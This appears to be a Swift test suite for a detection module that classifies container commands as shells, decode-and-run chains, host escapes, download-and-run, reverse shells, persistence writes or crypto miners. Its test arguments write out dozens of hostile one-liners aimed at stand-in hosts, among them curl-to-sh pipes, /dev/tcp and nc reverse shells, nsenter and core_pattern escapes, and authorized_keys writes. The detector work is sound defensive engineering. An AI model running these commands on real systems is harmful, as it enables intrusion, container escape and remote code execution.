import JSONView
import Testing

@testable import Rules

@Suite("Shapes of commands")
struct CommandShapeTests {
    @Test(
        "A shell, or a tool that hands one out, is seen",
        arguments: [
            "/bin/sh -c while true; do sleep 30; done", "bash", "/usr/bin/env bash -lc id", "busybox ash",
            "tini -- /bin/bash /run.sh", "nsenter --target 1 --mount -- bash", "ncat -l 9999 -e /bin/bash",
            "timeout 5 sh", "python3 -c __import__('os').system('x') && sh",
        ])
    func startsShell(_ text: String) { #expect(text.withText(RunsShell.judge)) }

    @Test(
        "A program of its own is no shell",
        arguments: [
            "/bin/sleep 3600 --path.rootfs=/host/root", "/app/server --shell=/bin/bash", "node server.js", "run.sh",
            "nginx -g daemon off;", "", "/usr/local/bin/fish-exporter --port 80", "java -jar app.jar",
        ])
    func ownProgram(_ text: String) { #expect(!text.withText(RunsShell.judge)) }

    @Test(
        "What is decoded and run is seen",
        arguments: [
            "sh -c echo c2xlZXAgMQ== | base64 -d | sh", "echo aWQK|base64 --decode|/bin/bash -",
            "eval $(echo aWQK | base64 -d)",
            "bash -c \"$(base64 -d <<< aWQK)\"", "bash <(echo aWQK | base64 -D)", "echo 6964 | xxd -r -p | ash",
            "python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))", "printf '\\x69\\x64\\x0a\\x0a' | sh",
            "perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))", "zcat /x.gz | sh",
            "openssl enc -d -aes-256-cbc -k x -in /p | bash", "base64 -d /p > /tmp/a; chmod +x /tmp/a; /tmp/a",
            "echo aWQK | busybox base64 -d | busybox sh", "sh -lc 'echo aWQK | base64 -di | sh'",
            "php -r eval(base64_decode('ZWNobyAxOw=='));",
        ])
    func decodesAndRuns(_ text: String) { #expect(text.withText(DecodeAndRun.judge)) }

    @Test(
        "What is decoded and only kept, or encoded, is not",
        arguments: [
            "echo hello | base64", "base64 -d /secret/key.b64 > /run/key", "gunzip -c dump.gz | psql",
            "tar xzf app.tgz",
            "echo $CERT | base64 -d | openssl x509 -noout -text", "zcat log.gz | grep error", "sh -c exec /server",
            "python app.py --key $(echo eHl6 | base64 -d)", "printf 'ready\\n' | nc localhost 80",
        ])
    func decodesOnly(_ text: String) { #expect(!text.withText(DecodeAndRun.judge)) }

    @Test(
        "A step into the host is seen",
        arguments: [
            "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "nsenter -t 1 -m -u -i -n -p sh",
            "nsenter -mt 1 sh", "sh -c nsenter --mount=/proc/1/ns/mnt -- /usr/bin/systemctl", "chroot /host /bin/bash",
            "sh -c cd /; chroot /mnt/root sh", "cat /proc/1/root/etc/shadow", "mount /dev/sda1 /mnt",
            "sh -c echo '|/x' > /proc/sys/kernel/core_pattern", "sh -c echo /cmd > /tmp/cgrp/release_agent",
            "debugfs -w /dev/nvme0n1p1",
            "/usr/local/bin/ncat --ssl h 443 -e /bin/nsenter --target 1 --mount -- /bin/bash",
        ])
    func entersHost(_ text: String) { #expect(text.withText(EntersHost.judge)) }

    @Test(
        "A container's own roots and mounts are not the host",
        arguments: [
            "chroot /srv/jail /bin/app", "nsenter -t 4242 -n ip addr", "mount -t tmpfs none /tmp/x", "exec /server",
            "cat /proc/1/status", "mount | grep data",
        ])
    func staysInside(_ text: String) { #expect(!text.withText(EntersHost.judge)) }

    @Test(
        "A shell's `--` does not hide its command",
        arguments: ["/bin/sh -c -- ncat --ssl $HOST $PORT -e /bin/bash;", "sh -c -- nc 198.51.100.7 443 -e sh"])
    func optionsEnd(_ text: String) { #expect(text.withText(ReverseShell.judge)) }

    @Test(
        "A file saved in memory, and every scheme of a pool, are seen",
        arguments: [
            "sh -c curl -s http://x.invalid/a > /dev/shm/a && sh /dev/shm/a",
            "lwp-download http://x.invalid/a /tmp/a; sh /tmp/a",
        ])
    func savedAnywhere(_ text: String) { #expect(text.withText(DownloadAndRun.judge)) }

    @Test(
        "A download that is run is seen in whatever language and by whatever way the text takes",
        arguments: [
            "sh -c curl -s http://x.invalid/a|python3 - --x", "sh -c curl http://x.invalid/a | xargs -I{} sh -c '{}'",
            "sh -c curl${IFS}-s${IFS}http://x.invalid/a|sh",
            "sh -c { curl http://x.invalid/a || wget -qO- x.invalid; } | sh",
            "bash -c bash <<< \"$(curl -s http://x.invalid/a)\"", "bash -c bash </dev/tcp/198.51.100.7/80",
            "bash -c exec 3<>/dev/tcp/198.51.100.7/80; echo GET >&3; cat <&3 | bash",
            "sh -c (crontab -l; echo \"* * * * * curl http://x.invalid/a|sh\")|crontab -",
            "sh -c tftp -g -r x 198.51.100.7; chmod +x x; ./x", "sh -c scp u@x.invalid:/a /tmp/a; /tmp/a",
            "python3 -c import os;os.system('curl -s http://x.invalid/a | sh')",
            "python3 -c import subprocess as s;s.run(['sh','-c','curl http://x.invalid/a | sh'])",
            "sh -c python3 -c \"import os;os.system('curl http://x.invalid/a|sh')\"",
            "node -e fetch('http://x.invalid/a').then(r=>r.text()).then(eval)", "deno run -A https://x.invalid/a.ts",
            "awk BEGIN{system(\"curl http://x.invalid/a|sh\")}", "pwsh -c iwr http://x.invalid/a.ps1 | iex",
            "cmd /c certutil -urlcache -f http://x.invalid/a.exe a.exe && a.exe",
        ])
    func downloadsInAnyForm(_ text: String) { #expect(text.withText(DownloadAndRun.judge)) }

    @Test(
        "A download that is read, kept or only mentioned is none",
        arguments: [
            "python3 -c import json,urllib.request; print(json.load(urllib.request.urlopen('http://x.invalid/a')))",
            "python3 -c import subprocess; subprocess.call(['curl', '-o', '/dev/null', 'http://x.invalid/health'])",
            "node -e fetch('http://x.invalid/health').then(r=>process.exit(r.ok?0:1))",
            "sh -c echo 'see https://x.invalid/install: curl it and pipe it to sh'",
            "sh -c curl -s http://x.invalid/a | xargs -I{} curl -X DELETE {}", "scp /dump.sql u@x.invalid:/backup/",
            "deno run -A server.ts --origin https://x.invalid", "bash -c cat <<< \"$(curl -s http://x.invalid/a)\"",
        ])
    func downloadsOnly(_ text: String) { #expect(!text.withText(DownloadAndRun.judge)) }

    @Test(
        "What only waits, or opens a shell, waits to be entered",
        arguments: [
            "sleep 3600", "/bin/sleep infinity", "sh", "/bin/bash -il", "tail -f /dev/null", "cat",
            "sh -c while true; do sleep 30; done", "/bin/bash -c -- while :; do echo .; sleep 5; done;",
            "sh -c apt-get update && apt-get install -y nmap && sleep infinity", "tini -- sleep 1d", "busybox sh",
            "sh -c trap : TERM INT; sleep 9999 & wait", "python3 -c import time; time.sleep(1e9)",
            "node -e setInterval(() => {}, 1e9)", "nsenter -t 1 -m -u -i -n -p sh",
        ])
    func waits(_ text: String) { #expect(text.withText(WaitsToBeEntered.judge)) }

    @Test(
        "A command with a purpose of its own does not wait",
        arguments: [
            "", "/app/server", "sleep 30 --path.rootfs=/host", "sh -c sleep 5; exec ./server", "sh /script/setup",
            "tail -F /var/log/app.log", "bash -c etcdctl snapshot save /backup/x.db", "cat /etc/motd",
            "sh -c until nc -z db 5432; do sleep 2; done", "python3 -c import app; app.run(sleep(1), run(2))",
            "redis-server --save 60 1", "sh -c while true; do ./scrape; sleep 60; done", "bash run.sh",
        ])
    func works(_ text: String) { #expect(!text.withText(WaitsToBeEntered.judge)) }

    @Test(
        "Addresses end where a shell or a sentence would end them",
        arguments: [
            ("curl -s https://x.invalid/a|sh", ["https://x.invalid/a"]),
            ("wget 'http://x.invalid/b' && echo \"(ftp://y.invalid/c)\"", ["http://x.invalid/b", "ftp://y.invalid/c"]),
            ("postgres://db/app stratum+tcp://pool:1 ://x", []), ("", []),
        ])
    func addresses(_ text: String, _ expected: [String]) {
        #expect(text.withText { Addresses.all(in: $0).map { String($0) } } == expected)
    }

    @Test(
        "Files written by a program of another language count as well",
        arguments: [
            "python3 -c open('/host/etc/cron.d/x','w').write('* * * * * root id')",
            "node -e require('fs').writeFileSync('/h/root/.ssh/authorized_keys', k)",
            "perl -e system(\"echo x >> /h/etc/ld.so.preload\")",
        ])
    func writesInOtherLanguages(_ text: String) { #expect(text.withText(PersistenceWrite.judge)) }

    @Test(
        "Octal escapes and encoded commands of PowerShell are decoded and run",
        arguments: [
            "printf '\\143\\165\\162\\154' | sh", "echo -e '\\0143\\0165\\0162\\0154'|bash",
            "pwsh -EncodedCommand aQBlAHgAIABoAGkAIAB0AGgAZQByAGUA",
            "powershell.exe -nop -enc aQBlAHgAIABoAGkAIAB0AGgA",
            "python3 -c exec(''.join(map(chr,[105,109,112])))", "bash <<< $(base64 -d /p)",
        ])
    func decodesInAnyForm(_ text: String) { #expect(text.withText(DecodeAndRun.judge)) }

    @Test(
        "Colours and PowerShell's other options are not",
        arguments: [
            "printf '\\033[1m\\033[31m\\033[0m\\033[32mready' | sh -c cat",
            "pwsh -File run.ps1 -Encoding utf8NoBOMutf8NoBOM",
        ])
    func decodesNothing(_ text: String) { #expect(!text.withText(DecodeAndRun.judge)) }

    @Test(
        "Shells behind other connections are seen",
        arguments: [
            "zsh -c zmodload zsh/net/tcp && ztcp 198.51.100.7 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
            "sh -c curl -Ns telnet://198.51.100.7:443 | sh | curl -Ns telnet://198.51.100.7:443",
            "lua -e local s=require('socket').tcp();s:connect(h,1);io.popen(s:receive('*l'))",
            "python3 -c import os;os.system('nc 198.51.100.7 443 -e /bin/sh')",
        ])
    func reverseShells(_ text: String) { #expect(text.withText(ReverseShell.judge)) }

    @Test(
        "A pool with an account and a worker's option is a miner's",
        arguments: [
            "ethminer -P stratum1+tcp://0x1111111111111111111111111111111111111111.w@eth.invalid:4444",
            "/app/kworker -o pool.invalid:4444 -u me -p x",
        ])
    func pools(_ text: String) { #expect(text.withText(MinerShape.judge)) }

    @Test(
        "Other programs' -o and -u are no pool",
        arguments: [
            "curl -o out.tar -u me:secret https://x.invalid/a", "ssh -o Port=22 -p 22 host.invalid",
            "sort -u -o out.txt in.txt",
        ])
    func noPools(_ text: String) { #expect(!text.withText(MinerShape.judge)) }
}

@Suite("Payloads and sockets")
struct PayloadAndSocketTests {
    private static let piece = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHBheWxvYWQ="

    @Test("A payload of padded pieces one behind the other is as long as all of them")
    func pieces() {
        #expect((Self.piece + Self.piece).withText(Payloads.looksEncoded))
        #expect(!Self.piece.withText(Payloads.looksEncoded))
        #expect(!(Self.piece + ", " + Self.piece).withText(Payloads.looksEncoded))
    }

    @Test(
        "A folder named after a socket is none",
        arguments: ["/srv/docker.sock.d", "/run/docker.socks/x", "/srv/docker"])
    func noSocket(_ path: String) { #expect(!path.withText(HostPath.isRuntimeSocket)) }
}
